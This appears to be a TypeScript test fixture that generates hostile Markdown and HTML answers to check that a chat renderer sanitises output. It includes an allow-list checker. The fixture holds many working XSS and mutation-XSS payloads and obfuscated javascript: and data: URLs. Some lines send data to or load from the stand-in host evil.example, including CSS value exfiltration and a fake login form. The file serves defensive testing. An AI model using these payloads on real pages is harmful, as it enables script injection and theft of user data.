/** Answers that try to run a script, to ask another host for something, or to take the page apart. Lists times templates. */

const evil = 'https://evil.example'

/** Run by whatever manages to; tests look for it. */
const shout = 'globalThis.caught=1'

const html = [
  `<script>${shout}</script>`,
  `<SCRIPT SRC=${evil}/x.js></SCRIPT>`,
  `<scr<script>ipt>${shout}</scr</script>ipt>`,
  `<script/x>${shout}</script\n>`,
  `<script type=module>import "${evil}/m.js"</script>`,
  `<img src=x onerror=${shout}>`,
  `<img src="x" onerror="${shout}" style="width:9999px">`,
  `<img/src=x/onerror=${shout}>`,
  `<img src=${evil}/pixel.png>`,
  `<img srcset="${evil}/a.png 1x, ${evil}/b.png 2x">`,
  `<picture><source srcset="${evil}/p.webp"><img src=x></picture>`,
  `<img src="x\` \`<script>${shout}</script>"\` \`>`,
  `<IMG """><SCRIPT>${shout}</SCRIPT>">`,
  `<image href="${evil}/i.png">`,
  `<svg onload=${shout}></svg>`,
  `<svg><script>${shout}</script></svg>`,
  `<svg><script href="data:text/javascript,${shout}"/></svg>`,
  `<svg><a xlink:href="javascript:${shout}"><text y=20>click</text></a></svg>`,
  `<svg><animate onbegin=${shout} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to=javascript:${shout} /><a id=x></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${shout}' /></svg>#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.caught=1</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="${evil}/s.png" /></svg>`,
  `<svg><style><img src=x onerror=${shout}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${shout}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${shout}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${shout}>`,
  `<math href="javascript:${shout}">click</math>`,
  `<math><maction actiontype="statusline#${evil}" xlink:href="javascript:${shout}">click</maction></math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${shout}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${shout}>`,
  `<noscript><p title="</noscript><img src=x onerror=${shout}>">`,
  `<template><script>${shout}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${shout}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${shout}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${shout}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${shout}>">`,
  `<title><p title="</title><img src=x onerror=${shout}>">`,
  `<plaintext><img src=x onerror=${shout}>`,
  `<!--><img src=x onerror=${shout}>-->`,
  `<!--!><img src=x onerror=${shout}>`,
  `<![CDATA[<img src=x onerror=${shout}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${shout}>`,
  `<!DOCTYPE html><body onload=${shout}>`,
  `<body onload=${shout} style="display:none">`,
  `<html manifest="${evil}/x.appcache"><head><base href="${evil}/">`,
  `<iframe src="javascript:parent.caught=1"></iframe>`,
  `<iframe srcdoc="<script>parent.caught=1</script>"></iframe>`,
  `<iframe src=${evil}></iframe>`,
  `<frameset onload=${shout}><frame src=${evil}></frameset>`,
  `<object data="data:text/html,<script>parent.caught=1</script>"></object>`,
  `<object data=${evil}/o.swf></object><embed src=${evil}/e.swf>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.caught=1'/>">`,
  `<portal src=${evil} onload=${shout}></portal>`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${shout}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<link rel=prefetch href=${evil}/p><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=${evil}>`,
  `<link rel=modulepreload href=${evil}/m.js>`,
  `<style>@import url(${evil}/x.css);</style>`,
  `<style>body{display:none!important}</style>`,
  `<style>textarea[value^=a]{background:url(${evil}/a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${evil}/f.woff)}*{font-family:x}</style>`,
  `<div style="background:url(${evil}/b.png);position:fixed;inset:0;z-index:9999">over all</div>`,
  `<p style="behavior:url(${evil}/x.htc);-moz-binding:url(${evil}/x.xml)">x</p>`,
  `<form action=${evil}><input name=secret autofocus onfocus=${shout}><button>Log in</button></form>`,
  `<form id=app><input name=querySelector></form>`,
  `<button formaction="javascript:${shout}">press</button>`,
  `<input type=image src=${evil}/i.png onerror=${shout}>`,
  `<select onchange=${shout}><option>a</select>`,
  `<isindex type=image src=1 onerror=${shout}>`,
  `<details open ontoggle=${shout}><summary>x</summary></details>`,
  `<video src=${evil}/v.mp4 autoplay onerror=${shout}></video>`,
  `<video poster=${evil}/p.png><source onerror=${shout}></video>`,
  `<audio src=x onerror=${shout}></audio><track src=${evil}/t.vtt>`,
  `<marquee onstart=${shout}>x</marquee>`,
  `<dialog open onclose=${shout}><form method=dialog><button>x</button></form></dialog>`,
  `<div popover=manual id=p onbeforetoggle=${shout}></div><button popovertarget=p>x</button>`,
  `<a href="${evil}" ping="${evil}/ping" target=_top onclick=${shout}>link</a>`,
  `<a id=app name=caught href=x>named</a><img name=querySelector>`,
  `<x onclick=${shout} tabindex=1 autofocus onfocus=${shout}>x</x>`,
  `<custom-element onpointerenter=${shout} is=x-y></custom-element>`,
  `<p onmouseover=${shout} contenteditable onblur=${shout}>hover</p>`,
  `<table background=${evil}/t.png><td background=${evil}/d.png>cell</table>`,
  `<base href=${evil}/><a href=/x>based</a>`,
  `<applet code=x codebase=${evil}></applet><bgsound src=${evil}/b.wav><layer src=${evil}></layer>`,
  `</div></div></article></main></body></html><h1>outside</h1>`,
  `<a href="x" autofocus onfocus=${shout}//"><img src="x\\" onerror=${shout}//">`,
  `&lt;script&gt;${shout}&lt;/script&gt;`,
  `&#60;img src=x onerror=${shout}&#62;`,
  `\\<img src=x onerror=${shout}\\>`,
  `＜script＞${shout}＜/script＞`,
  `\u202e<img src=x onerror=${shout}>\u202c`,
  `<\u0000script>${shout}</\u0000script>`,
  `<img\u000csrc=x\u000conerror=${shout}>`,
]

/** Around HTML: where Markdown might take it for something else. */
const htmlPlaces: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Some words ${text} and more.`,
  (text) => `- one\n- ${text}\n\n> ${text}`,
  (text) => `| a | b |\n|---|---|\n| ${text} | **${text}** |`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `[${text}](https://example.com "${text.replaceAll('"', '')}")`,
]

const urls = [
  `javascript:${shout}`,
  `JaVaScRiPt:${shout}`,
  `java\tscript:${shout}`,
  `java&Tab;script:${shout}`,
  `javascript&colon;${shout}`,
  `&#106;avascript:${shout}`,
  `&#x6A;avascript:${shout}`,
  `\u0001javascript:${shout}`,
  `%6Aavascript:${shout}`,
  `javascript://example.com/%0a${shout}`,
  `javascript:/*https://example.com*/${shout}`,
  `jav\\ascript:${shout}`,
  `view-source:javascript:${shout}`,
  `feed:javascript:${shout}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.caught=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2F1Z2h0PTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=parent.caught=1>`,
  `DATA:text/html,x`,
  `blob:${evil}/x`,
  `file:///etc/passwd`,
  `filesystem:${evil}/x`,
  `ws://evil.example/`,
  `ftp://evil.example/`,
  `intent://evil.example#Intent;scheme=http;end`,
  `tel:+15550100`,
  `sms:+15550100`,
  `chrome://settings`,
  `about:blank`,
  `//evil.example/x`,
  `/\\evil.example/x`,
  `\\\\evil.example\\x`,
  `https:evil.example`,
  `${evil}/?q=secret`,
  `http://user:password@evil.example/`,
  `mailto:a@example.com?body=x`,
  `https://еvil.example/`,
  `https://evil.example/\u202egnp.x`,
  `#onnx`,
  `./models`,
]

const urlPlaces: readonly ((url: string) => string)[] = [
  (url) => `[click me](${url})`,
  (url) => `[click me](<${url}> "title")`,
  (url) => `<${url}>`,
  (url) => `![picture](${url})`,
  (url) => `[![picture](${url})](${url})`,
  (url) => `[by reference][x]\n\n[x]: ${url} "${shout}"`,
  (url) => `<a href="${url}">click me</a>`,
]

/** Markdown that is hard on parsers and on pages. */
const shapes = [
  '['.repeat(5000),
  `${'> '.repeat(600)}deep`,
  `${'- '.repeat(300)}deep`,
  '*'.repeat(20_000),
  '`'.repeat(9999),
  `${'a'.repeat(30_000)}`,
  '![]('.repeat(2000),
  '<'.repeat(10_000),
  '&'.repeat(10_000),
  '\n'.repeat(20_000),
  `|${'a|'.repeat(400)}\n|${'-|'.repeat(400)}\n|${'b|'.repeat(400)}`,
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗'.repeat(50),
  '\u202e\u2066\u200b\ufeff\u0000\ud800 end',
  `\`\`\`js\n${`${shout};\n`.repeat(200)}`,
  '```<img src=x onerror=globalThis.caught=1>\ncode\n```',
  '```"><script>globalThis.caught=1</script>\ncode\n```',
  '```__proto__\ncode\n```\n\n```constructor\ncode\n```',
  '~~~html\n<script>globalThis.caught=1</script>',
  '$$\\href{javascript:globalThis.caught=1}{x}$$',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a template to those who would run it.
  '{{constructor.constructor("globalThis.caught=1")()}} ${globalThis.caught=1} #{globalThis.caught=1}',
]

/** Over 800, each another one. */
export function hostileAnswers(): readonly string[] {
  const all = [
    ...html.flatMap((text) => htmlPlaces.map((place) => place(text))),
    ...urls.flatMap((url) => urlPlaces.map((place) => place(url))),
    ...shapes,
  ]
  return [...new Set(all)]
}

/** Pieces to put together by chance. */
export const hostilePieces: readonly string[] = [
  ...html,
  ...urls,
  ...[
    '`',
    '```',
    '\n',
    '\n\n',
    '[',
    '](',
    ')',
    '<',
    '>',
    '"',
    "'",
    '&',
    '|',
    '\n|---|\n',
    '> ',
    '- ',
    '# ',
    '*',
    '_',
    '~~',
  ],
  ...[
    '<!--',
    '-->',
    '</',
    '/>',
    '\\',
    '\u0000',
    '<p>',
    '</p>',
    '<table>',
    '<svg>',
    '<math>',
    '<style>',
    '</style>',
    '&lt;',
    '&#x3c;',
  ],
]

/** What of `root` must not be there: anything but text, structure, and links that lead out by http, https or mail. */
export function whatIsWrong(root: ParentNode): readonly string[] {
  const elements = new Set(
    'p br strong em del code pre blockquote hr a ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td div span button'.split(
      ' ',
    ),
  )
  const attributes = new Set(
    'href title align start class tabindex target rel type aria-label aria-busy aria-pressed data-role data-state hidden'.split(
      ' ',
    ),
  )
  const wrong: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const { localName } = element
    if (!elements.has(localName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
      wrong.push(`<${localName}>`)
    for (const { name } of element.attributes) if (!attributes.has(name)) wrong.push(`<${localName} ${name}>`)
    if (!(element instanceof HTMLAnchorElement)) continue
    const href = element.getAttribute('href')
    if (href === null) continue
    if (!['http:', 'https:', 'mailto:'].includes(element.protocol)) wrong.push(`link to ${href}`)
    if (!/^(https?|mailto):/i.test(href)) wrong.push(`link within the page: ${href}`)
    if (element.target !== '_blank' || element.rel !== 'noopener noreferrer nofollow')
      wrong.push(`open link: ${href}`)
  }
  return wrong
}
